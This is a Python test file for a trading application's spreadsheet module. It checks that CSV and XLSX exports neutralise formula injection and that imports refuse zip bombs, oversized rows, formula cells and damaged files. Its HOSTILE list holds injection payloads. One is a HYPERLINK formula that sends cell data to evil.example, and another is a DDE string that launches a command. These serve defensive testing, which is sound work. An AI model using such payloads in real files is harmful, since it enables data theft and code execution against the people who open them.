"""Exports cannot attack their reader: text that begins like a formula stays text in CSV
(an apostrophe before it, removed again on import) and in XLSX (a string cell, never a formula).
Imports cannot be broken by a file: read as a stream within limits, formulas reported."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from datetime import date

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.common.xlsx_parts import MAIN, text_cell, text_rows, xlsx_file
from trading.errors import InvalidInput
from trading.spreadsheets import MAX_ROWS, FORMULA_STARTS, ImportRejected, _csv_rows, csv_cell, read_rows, write_rows
from trading.xlsx_stream import MAX_EXPANDED_BYTES

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1", "\r=1"]


def test_a_csv_export_makes_every_formula_looking_cell_text():
    data = write_rows("x.csv", ["项目名称"], [[title] for title in HOSTILE])
    text = data.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))[1:]
    assert [line[0] for line in lines] == ["'" + title for title in HOSTILE]


def test_an_xlsx_export_writes_formula_looking_text_as_strings():
    data = write_rows("x.xlsx", ["项目名称"], [[title] for title in HOSTILE])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [title.replace("\r", "\n") for title in HOSTILE]  # XML line ends
    assert all(cell.data_type == "s" for cell in cells)


@settings(database=None, max_examples=200)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r'a中1 ")), max_size=8), min_size=1, max_size=5))
def test_a_csv_export_reimports_exactly(values):
    data = write_rows("x.csv", ["a"] * len(values), [values])
    assert [cell.value for cell in list(_csv_rows(data))[1][1]] == values


def test_numbers_and_empty_cells_are_left_alone():
    assert csv_cell(-5) == -5 and csv_cell(None) == "" and csv_cell("济宁") == "济宁"
    assert all(csv_cell(start + "x").startswith("'") for start in FORMULA_STARTS)



# ----------------------------------------------------------------------------- reading hostile and unusual files


def test_an_xlsx_of_200000_rows_is_refused_at_the_row_cap_without_reading_the_rest():
    # The damaged end is never reached: the cap applies while reading, not after.
    bomb = xlsx_file(text_rows(["姓名"], *[["x"]] * 200_000) + "<row><c>")
    assert len(bomb) < 100_000  # small on the wire
    with pytest.raises(InvalidInput) as refused:
        read_rows("bomb.xlsx", bomb, ["姓名"])
    assert f"一次最多导入 {MAX_ROWS} 行" in refused.value.message and refused.value.details["field"] == "file"


def test_exactly_the_row_cap_is_read():
    rows = read_rows("cap.xlsx", xlsx_file(text_rows(["姓名"], *[["x"]] * MAX_ROWS)), ["姓名"])
    assert len(rows) == MAX_ROWS and rows[-1].number == MAX_ROWS + 1


def test_an_xlsx_that_expands_beyond_the_limit_is_refused_before_it_is_parsed():
    padding = " " * (MAX_EXPANDED_BYTES + 1)  # whitespace deflates a thousandfold
    bomb = xlsx_file(text_rows(["姓名"], ["张三"]) + padding, level=1)
    assert len(bomb) < 1_000_000
    with pytest.raises(InvalidInput, match="解压后超过 128 MB"):
        read_rows("bomb.xlsx", bomb, ["姓名"])


def test_a_row_of_a_million_cells_is_read_without_holding_them():
    wide = "<c/>" * 1_000_000  # one row, 4 MB of XML, 28 KB deflated
    data = xlsx_file(text_rows(["姓名", "职称"]) + f"<row>{text_cell('张三')}{text_cell('中级')}{wide}</row>")
    tracemalloc.start()
    try:
        rows = read_rows("wide.xlsx", data, ["姓名"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [row.values for row in rows] == [{"姓名": "张三", "职称": "中级"}]
    assert peak < 20_000_000  # openpyxl builds every cell of the row first: hundreds of MB


def test_formula_cells_are_reported_cell_by_cell_not_read_as_empty():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "下次审定日期", "备注"])
    sheet.append(["张三", "=TODAY()+365", "=A2"])
    sheet.append(["李四", "2027-06-30", ""])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(ImportRejected) as rejected:
        read_rows("experts.xlsx", out.getvalue(), ["姓名"])
    assert [(error.row, error.column) for error in rejected.value.errors] == [(2, "下次审定日期"), (2, "备注")]
    assert all("公式" in error.reason for error in rejected.value.errors)


def test_a_formula_with_a_cached_value_is_still_a_formula():
    data = xlsx_file(text_rows(["姓名"]) + '<row><c t="str"><f>"张"&amp;"三"</f><v>张三</v></c></row>')
    with pytest.raises(ImportRejected, match="公式"):
        read_rows("x.xlsx", data, ["姓名"])


def test_date_cells_read_as_dates_and_numbers_as_typed():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["下次审定日期", "所在城市", "身份证号码"])
    sheet.append([date(2027, 6, 30), 370800, "370802199001011234"])
    out = io.BytesIO()
    book.save(out)
    [row] = read_rows("x.xlsx", out.getvalue(), [])
    assert row.values == {"下次审定日期": "2027-06-30", "所在城市": "370800", "身份证号码": "370802199001011234"}


def test_east_asian_built_in_date_formats_and_prefixed_tags_are_understood():
    styles = '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="31"/></cellXfs>'  # 31: yyyy"年"m"月"d"日"
    sheet = ('<x:row><x:c t="s"><x:v>0</x:v></x:c><x:c t="s"><x:v>1</x:v></x:c></x:row>'
             '<x:row><x:c s="1"><x:v>46568</x:v></x:c><x:c t="s"><x:v>2</x:v></x:c></x:row>')
    data = _prefixed(sheet, styles)  # some writers prefix every tag
    [row] = read_rows("x.xlsx", data, ["到账日期"])
    assert row.values == {"到账日期": "2027-06-30", "附言": "保证金"}


def _prefixed(sheet: str, styles: str) -> bytes:
    data = xlsx_file("", shared_strings=["到账日期", "附言", "保证金"], styles=styles)
    archive = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in archive.infolist():
            content = archive.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = (f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{sheet}</x:sheetData>'
                           "</x:worksheet>").encode()
            copy.writestr(info.filename, content)
    return out.getvalue()


def test_a_nul_character_in_a_csv_is_reported_where_it_is():
    data = "姓名,工作单位名称\n张三,济宁\x00学院\n".encode()
    with pytest.raises(ImportRejected) as rejected:
        read_rows("x.csv", data, ["姓名"])
    assert [(error.row, error.column) for error in rejected.value.errors] == [(2, "工作单位名称")]


@pytest.mark.parametrize("data", [b"PK\x03\x04 not a zip", xlsx_file("<row><c><v>1</c></row>"),
                                  xlsx_file('<row r="3"/><row r="2"><c><v>1</v></c></row>')])
def test_a_damaged_xlsx_is_one_clear_error(data):
    with pytest.raises(InvalidInput, match="文件已损坏"):
        read_rows("x.xlsx", data, [])
